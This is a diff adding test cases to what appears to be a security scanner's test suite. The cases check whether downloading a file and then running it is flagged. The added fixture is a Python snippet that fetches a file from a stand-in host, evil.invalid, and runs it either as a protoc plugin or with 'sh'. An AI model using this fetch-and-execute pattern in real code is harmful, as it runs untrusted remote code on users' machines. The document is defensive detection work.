@@ -93,3 +93,19 @@ test.each([
 ])('a program of which the user was told when it was fetched: %s', (before, severity) => {
   expect(found(FETCHED(before))['download-started']).toBe(severity);
 });
+
+const TRANSLATED = (command: string): string => `
+import subprocess, urllib.request
+def refresh():
+    with open("a.proto", "wb") as file:
+        file.write(urllib.request.urlopen("https://evil.invalid/a.proto").read())
+    subprocess.run(${command})
+refresh()`;
+
+test.each([
+  ['["protoc", "a.proto", "--python_out=."]', undefined],
+  ['["protoc", "--plugin=protoc-gen-a=./a.proto", "b.proto"]', 'CRITICAL'],
+  ['["sh", "a.proto"]', 'CRITICAL'],
+])('a file that was fetched is translated, or run: %s', (command, severity) => {
+  expect(found(TRANSLATED(command))['download-started']).toBe(severity);
+});
